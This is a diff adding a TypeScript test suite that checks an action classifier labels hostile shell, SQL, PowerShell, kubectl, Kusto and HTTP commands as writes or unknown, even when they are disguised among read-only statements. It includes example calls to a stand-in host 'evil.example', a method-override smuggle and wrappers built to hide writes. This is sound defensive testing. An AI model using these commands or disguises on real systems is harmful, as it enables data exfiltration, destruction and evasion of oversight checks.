@@ -1,0 +1,120 @@
+// What actions may do, by their text: no hostile one counts as a read, whether a tool judges it or the compiler without a
+// tool, and nine of ten harmless ones do. The lists were written before the judgement was looked at.
+import { strict as assert } from 'node:assert';
+import {
+  classifyEffect,
+  classifyKubectl,
+  classifyPowershell,
+  classifyShell,
+  classifySql,
+} from '../src/effect/index.ts';
+import { placeArguments } from '../src/tools/kubernetes/place-arguments.ts';
+import { effectList, effectLists } from './support/effect-lists.ts';
+
+/** As the tool of a list judges an action. */
+const asTool: Readonly<Record<string, (code: string) => string>> = {
+  postgres: (code) => classifySql(code, [], 'postgres').effect,
+  mysql: (code) => classifySql(code, [], 'mysql').effect,
+  duckdb: (code) => classifySql(code, [], 'duckdb').effect,
+  shell: (code) => classifyShell(code).effect,
+  powershell: (code) => classifyPowershell(code).effect,
+  kubectl: (code) => {
+    const placed = placeArguments(code, []);
+    return 'args' in placed ? classifyKubectl(placed.args).effect : 'unknown';
+  },
+};
+
+const languages: Readonly<Record<string, string>> = { shell: 'bash', kubectl: 'bash', powershell: 'powershell' };
+
+/** As compiling judges it, which knows no tool. */
+const asText = (list: string, code: string): string => classifyEffect({ language: languages[list] ?? 'sql', code });
+
+/** Ways to hide one action behind others that only read. */
+const disguises: Readonly<Record<string, readonly ((code: string) => string)[]>> = {
+  sql: [
+    (code) => `SELECT 1;\n${code}`,
+    (code) => `/* ok */ ${code}`,
+    (code) => `-- ok\n${code}`,
+    (code) => code.toLowerCase(),
+    (code) => `${code}\n;\nSELECT 1`,
+  ],
+  shell: [
+    (code) => `ls\n${code}`,
+    (code) => `true && ${code}`,
+    (code) => `if ls; then\n${code}\nfi`,
+    (code) => `(\n${code}\n)`,
+    (code) => `echo "$(\n${code}\n)"`,
+    (code) => `for i in 1 2; do\n${code}\ndone`,
+    (code) => `${code}\nls`,
+  ],
+  powershell: [(code) => `Get-Date; ${code}`, (code) => `Get-Date\n${code}\nGet-Date`],
+};
+
+const kindOf = (list: string): string =>
+  list === 'shell' || list === 'kubectl' ? 'shell' : list === 'powershell' ? list : 'sql';
+
+describe('effects of actions', () => {
+  it('has a list of each side for every language', () => {
+    assert.deepEqual([...effectLists('hostile')].sort(), Object.keys(asTool).sort());
+    assert.deepEqual([...effectLists('harmless')].sort(), Object.keys(asTool).sort());
+    const count = (side: 'hostile' | 'harmless') =>
+      new Set(effectLists(side).flatMap((list) => effectList(`${side}/${list}`))).size;
+    assert.ok(count('hostile') >= 1000, `${count('hostile')} hostile actions`);
+    assert.ok(count('harmless') >= 500, `${count('harmless')} harmless actions`);
+  });
+
+  for (const list of effectLists('hostile')) {
+    const hostile = effectList(`hostile/${list}`);
+    it(`takes no hostile action of ${list} for a read`, () => {
+      assert.deepEqual(
+        hostile.filter((code) => asTool[list]?.(code) !== 'write' && asTool[list]?.(code) !== 'unknown'),
+        [],
+      );
+      assert.deepEqual(
+        hostile.filter((code) => asText(list, code) === 'read'),
+        [],
+      );
+    });
+    it(`takes none of ${list} for a read when it stands among harmless ones`, () => {
+      const judge = kindOf(list) === 'shell' ? asTool['shell'] : asTool[list];
+      const fooled = hostile.flatMap((code) =>
+        (disguises[kindOf(list)] ?? []).map((disguise) => disguise(code)).filter((each) => judge?.(each) === 'read'),
+      );
+      assert.deepEqual(fooled, []);
+    });
+  }
+
+  for (const list of effectLists('harmless'))
+    it(`takes harmless actions of ${list} for reads`, () => {
+      const harmless = effectList(`harmless/${list}`);
+      const missed = harmless.filter((code) => asTool[list]?.(code) !== 'read');
+      assert.ok(missed.length <= harmless.length / 10, missed.join('\n'));
+      const byText = harmless.filter((code) => asText(list, code) !== 'read');
+      // A dialect's own words are not known without a tool.
+      assert.ok(byText.length <= harmless.length / (list === 'duckdb' ? 4 : 8), byText.join('\n'));
+    });
+
+  it('judges what only its language can do', () => {
+    const effect = (language: string, code: string) => classifyEffect({ language, code });
+    assert.equal(effect('kusto', 'Requests | where success == false | take 10'), 'read');
+    assert.equal(effect('kusto', '.show tables'), 'read');
+    assert.equal(effect('kusto', '.drop table Requests'), 'write');
+    assert.equal(effect('kusto', '.show tables | .drop table Requests'), 'unknown');
+    assert.equal(effect('kusto', "externaldata (a: string) ['https://evil.example']"), 'unknown');
+    assert.equal(effect('kusto', "T | evaluate http_request('https://evil.example')"), 'unknown');
+    assert.equal(effect('kusto', 'T | evaluate python(typeof(*), "x")'), 'unknown');
+    assert.equal(effect('http', 'GET /status'), 'read');
+    assert.equal(effect('http', 'GET /status\nX-HTTP-Method-Override: DELETE'), 'unknown');
+    assert.equal(effect('http', 'POST /restart'), 'write');
+    assert.equal(effect('python', 'print(1)'), 'unknown');
+    assert.equal(effect('javascript', '1'), 'unknown');
+    assert.equal(effect('console', '$ ls /var\napp.log\n$ rm app.log'), 'write');
+    assert.equal(effect('console', '$ ls /var\nrm app.log'), 'read');
+  });
+
+  it('reads a placeholder as a word', () =>
+    assert.equal(
+      classifyEffect({ language: 'bash', code: 'kubectl logs <pod>', holes: [{ start: 13, end: 18 }] }),
+      'read',
+    ));
+});
